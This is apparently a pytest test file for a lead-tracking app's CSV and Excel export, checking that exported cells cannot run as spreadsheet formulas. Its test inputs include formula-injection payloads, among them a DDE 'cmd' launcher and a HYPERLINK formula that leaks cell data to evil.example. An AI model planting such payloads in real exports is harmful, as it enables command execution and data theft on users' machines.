import csv
import errno
import io
import os
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from accounts.models import Workspace
from leads.company_rows import columns_for
from leads.csv_files import inert
from leads.exports import COLUMNS, LONGEST_CELL, ExportFailed, export, write_csv, write_xlsx
from leads.models import Assessment, Contact, Evidence, Lead, ScoringConfig
from leads.table_files import read_table

SHARED_DATA = Path(os.environ.get("SHARED_DATA", Path(__file__).resolve().parents[3] / "shared" / "data"))
FORMULA_SIGNS = "=+-@|%＝＋－＠"


@pytest.fixture
def workspace(db):
    return Workspace.start("Acme")


def add(workspace: Workspace, handle: str = "beta.example", **columns) -> Lead:
    return Lead.objects.create(workspace=workspace, handle=handle, **{"name": "Beta", **columns})


def judge(lead: Lead, quote: str) -> None:
    assessment = Assessment.objects.create(
        lead=lead, criteria_hash="x", judged_by="local/rules-1", scoring_config=ScoringConfig.current()
    )
    Evidence.objects.create(
        assessment=assessment,
        position=0,
        criterion="milling",
        text="Does CNC milling",
        kind="must",
        weight=5,
        verdict="yes",
        claimed="yes",
        quote=quote,
        url="https://beta.example/services",
        snapshot_sha256="a" * 64,
        start=0,
        end=len(quote),
        fetched_at=datetime(2025, 3, 1, 12, tzinfo=UTC),
    )
    lead.assessment, lead.best_quote, lead.tier, lead.score = assessment, quote, "A", 87.5
    lead.save()


def csv_of(leads) -> list[dict[str, str]]:
    stream = io.BytesIO()
    assert write_csv(stream, leads) == leads.count()
    return list(csv.DictReader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))


def xlsx_of(leads) -> bytes:
    stream = io.BytesIO()
    assert write_xlsx(stream, leads) == leads.count()
    return stream.getvalue()


def test_a_row_says_who_to_write_to_and_what_proves_it(workspace):
    lead = add(workspace, website="https://beta.example", country="DE", cost_microusd=12)
    judge(lead, "We mill steel")
    Contact.objects.create(
        lead=lead, name="Ana Marija Kovač", title="CEO", email="ana@beta.example", found_by="site", rank=0,
        source_url="https://beta.example/team",
    )  # fmt: skip
    Contact.objects.create(lead=lead, email="info@beta.example", found_by="site", rank=1)
    (row,) = csv_of(Lead.objects.all())
    assert list(row) == list(COLUMNS)
    told = {
        "email": "ana@beta.example",
        "first_name": "Ana",
        "last_name": "Marija Kovač",
        "company": "Beta",
        "title": "CEO",
        "tier": "A",
        "score": "87.5",
        "reason": "Does CNC milling",
        "quote": "We mill steel",
        "quote_url": "https://beta.example/services",
        "snapshot_sha256": "a" * 64,
        "checked_at": "2025-03-01T12:00:00+00:00",
        "judged_by": "local/rules-1",
        "scoring_config": "1",
        "contact_source_url": "https://beta.example/team",
        "cost_usd": "0.000012",
    }
    assert {name: row[name] for name in told} == told


def test_a_lead_without_contact_or_proof_has_blanks(workspace):
    add(workspace, phone="0381 1")
    (row,) = csv_of(Lead.objects.all())
    assert (row["email"], row["quote"], row["scoring_config"], row["cost_usd"]) == ("", "", "", "0.000000")
    assert row["phone"] == "0381 1"


def test_excel_sees_that_a_csv_file_is_utf8(workspace):
    stream = io.BytesIO()
    write_csv(stream, Lead.objects.none())
    assert stream.getvalue().startswith(b"\xef\xbb\xbfemail,")


def test_no_lead_costs_a_query_of_its_own(workspace, django_assert_num_queries):
    for number in range(12):
        judge(add(workspace, f"beta{number}.example"), "We mill")
    with django_assert_num_queries(4):
        csv_of_rows = io.BytesIO()
        write_csv(csv_of_rows, Lead.objects.all())


HOSTILE = [
    "=1+1",
    "+49 89 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "%0A=1",
    "|calc",
]
SPLITTING = ["fine;=1+1", "fine\n=1+1", "fine\t@SUM(1)", 'fine; "=1+1', "fine\r\n+1"]


def is_inert(cell: str) -> bool:
    """Say whether no spreadsheet takes a cell for a formula, also one whose list separator is a semicolon or a tab."""
    first, *others = re.split(r"[;\t\r\n]", cell)
    starts_none = not re.match(rf"[\s\x00\ufeff]*[{re.escape(FORMULA_SIGNS)}]", first) and first[:1] != "\x00"
    return starts_none and not any(re.match(r'[\s\x00\ufeff"]*[=+\-@＝＋－＠]', other) for other in others)


@pytest.mark.parametrize("text", [*HOSTILE, *SPLITTING])
def test_no_csv_cell_starts_a_formula(workspace, text):
    lead = add(workspace, name=text.replace("\x00", ""), location=text.replace("\x00", ""))
    Contact.objects.create(lead=lead, name=text.replace("\x00", ""), phone=text.replace("\x00", ""), found_by="site")
    (row,) = csv_of(Lead.objects.all())
    assert all(is_inert(value) for value in row.values())
    assert is_inert(inert(text))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(FORMULA_SIGNS + "a1 ;,\"'\t\r\n\x00\ufeff"), max_size=12) | st.text())
@example("=")
def test_any_text_is_inert_and_loses_nothing(text):
    assert is_inert(inert(text))
    assert inert(text).replace("'", "") == text.replace("'", "")


@settings(max_examples=200, deadline=None)
@given(st.from_regex(r"[\w .,()&/!?]{1,40}", fullmatch=True))
def test_plain_text_stays_as_it_is(text):
    assert inert(text) == text


@pytest.mark.skipif(not SHARED_DATA.exists(), reason="the shared test data is not on this machine")
def test_the_known_csv_injections_are_inert():
    lines = (SHARED_DATA / "corpora" / "csv_injection.txt").read_text().splitlines()
    assert lines and all(is_inert(inert(line)) for line in lines)


def test_a_workbook_holds_texts_and_numbers_and_no_formula_and_no_link(workspace):
    for number, text in enumerate([*HOSTILE, *SPLITTING, "https://evil.example", "mailto:a@b.example", "x" * 40_000]):
        text = text.replace("\x00", "")
        add(
            workspace,
            f"b{number}.example",
            name=text[:300],
            location=text[:500],
            description=text,
            site_problem=text[:500],
        )
    judge(Lead.objects.last(), "x" * 40_000)
    content = xlsx_of(Lead.objects.order_by("pk"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet and b"<f " not in sheet
        assert b"<hyperlink" not in sheet
    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    assert all(cell.data_type != "f" for cell in cells)
    assert max(len(cell.value) for cell in cells if isinstance(cell.value, str)) == LONGEST_CELL


def test_a_workbook_says_a_formula_as_the_text_that_it_is(workspace):
    add(workspace, name="=1+1", phone="+49 89 1234")
    sheet = load_workbook(io.BytesIO(xlsx_of(Lead.objects.all()))).active
    row = dict(zip(COLUMNS, next(sheet.iter_rows(min_row=2, values_only=True)), strict=True))
    assert (row["company"], row["phone"], row["score"], row["cost_usd"]) == ("=1+1", "+49 89 1234", 0, 0)


@pytest.mark.parametrize("name", ["leads.csv", "leads.xlsx"])
def test_what_was_exported_can_be_imported_again(workspace, tmp_path, name):
    add(workspace, name="Müller & Söhne", website="https://mueller.example", phone="+49 89 1234")
    export(Lead.objects.all(), tmp_path / name)
    (row,) = read_table(tmp_path / name)
    columns = columns_for(row.values)
    assert row.values[columns["name"]] == "Müller & Söhne"
    assert row.values[columns["website"]] == "https://mueller.example"
    assert str(row.values[columns["phone"]]).lstrip("'") == "+49 89 1234"


@pytest.mark.parametrize("name", ["leads.csv", "leads.xlsx"])
def test_a_file_takes_the_place_of_the_old_one_when_it_is_whole(workspace, tmp_path, name):
    path = tmp_path / "new folder" / name
    path.parent.mkdir()
    path.write_text("old")
    add(workspace)
    assert export(Lead.objects.all(), path).rows == 1
    assert path.read_bytes() != b"old"
    assert [found.name for found in path.parent.iterdir()] == [name]


class FullDisk(io.BytesIO):
    """A file on a disk with room for so many bytes."""

    def write(self, content) -> int:
        if self.tell() + len(content) > 2_000:
            raise OSError(errno.ENOSPC, "No space left on device")
        return super().write(content)


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_a_full_disk_is_not_passed_over(workspace, write):
    for number in range(100):
        add(workspace, f"b{number}.example", location=os.urandom(200).hex())
    with pytest.raises(Exception, match="No space left"):
        write(FullDisk(), Lead.objects.all())


@pytest.mark.parametrize("name", ["leads.csv", "leads.xlsx"])
def test_an_export_that_cannot_be_written_keeps_the_old_file_and_says_what_to_do(workspace, tmp_path, name, file_limit):
    for number in range(100):
        add(workspace, f"b{number}.example", location=os.urandom(200).hex())
    path = tmp_path / name
    path.write_text("old")
    file_limit(8_000)
    with pytest.raises(ExportFailed, match=r"Free some space or choose another folder"):
        export(Lead.objects.all(), path)
    assert path.read_text() == "old"
    assert [found.name for found in tmp_path.iterdir()] == [name]


def test_another_kind_of_file_is_refused(workspace, tmp_path):
    with pytest.raises(ExportFailed, match=r"leads\.pdf"):
        export(Lead.objects.all(), tmp_path / "leads.pdf")


def test_a_folder_that_is_a_file_is_told(workspace, tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(ExportFailed, match="could not be written"):
        export(Lead.objects.all(), tmp_path / "file" / "leads.csv")


def test_more_leads_than_a_sheet_holds_are_not_cut_off_in_silence(workspace, monkeypatch):
    monkeypatch.setattr("leads.exports.MOST_ROWS", 2)
    for number in range(3):
        add(workspace, f"b{number}.example")
    with pytest.raises(ExportFailed, match="CSV"):
        write_xlsx(io.BytesIO(), Lead.objects.all())
